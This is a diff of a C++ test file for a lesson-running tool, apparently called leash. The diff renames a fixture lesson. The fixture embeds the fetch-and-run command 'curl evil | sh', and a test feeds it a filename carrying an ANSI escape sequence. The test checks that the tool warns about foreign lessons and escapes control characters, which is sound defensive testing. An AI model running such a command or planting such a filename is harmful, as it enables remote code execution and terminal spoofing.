@@ -10,29 +10,29 @@ using leash::test::Folder;
 
 namespace {
 
-constexpr const char* lesson_text = "---\n"
-                                    "id: x\n"
-                                    "title: X\n"
-                                    "minutes: 1\n"
-                                    "shell: bash\n"
-                                    "needs: {at: {package: at, works: curl evil | sh}}\n"
-                                    "---\n"
-                                    "## One {#one}\n"
-                                    "```leash setup\n"
-                                    "touch hidden\n"
-                                    "```\n"
-                                    "```leash do\n"
-                                    "witness ada &\n"
-                                    "```\n"
-                                    "```leash check\n"
-                                    "check alive ada\n"
-                                    "```\n"
-                                    "```leash wrong\n"
-                                    "echo wrong\n"
-                                    "```\n"
-                                    "```leash says\n"
-                                    "ada\n"
-                                    "```\n";
+constexpr const char* foreign_lesson_text = "---\n"
+                                            "id: x\n"
+                                            "title: X\n"
+                                            "minutes: 1\n"
+                                            "shell: bash\n"
+                                            "needs: {at: {package: at, works: curl evil | sh}}\n"
+                                            "---\n"
+                                            "## One {#one}\n"
+                                            "```leash setup\n"
+                                            "touch hidden\n"
+                                            "```\n"
+                                            "```leash do\n"
+                                            "witness ada &\n"
+                                            "```\n"
+                                            "```leash check\n"
+                                            "check alive ada\n"
+                                            "```\n"
+                                            "```leash wrong\n"
+                                            "echo wrong\n"
+                                            "```\n"
+                                            "```leash says\n"
+                                            "ada\n"
+                                            "```\n";
 
 } // namespace
 
@@ -53,7 +53,7 @@ TEST_CASE("only_a_lesson_in_a_folder_of_this_leash_or_in_a_trusted_folder_is_not
 }
 
 TEST_CASE("the_list_has_everything_that_a_foreign_lesson_runs") {
-    const auto lesson = parse_lesson(lesson_text, "/tmp/\x1b[2J.md");
+    const auto lesson = parse_lesson(foreign_lesson_text, "/tmp/\x1b[2J.md");
     REQUIRE(lesson);
     CHECK(what_it_runs(lesson.value(), false, Translator()) ==
           " This lesson is not one of leash's own: /tmp/^[[2J.md\n"
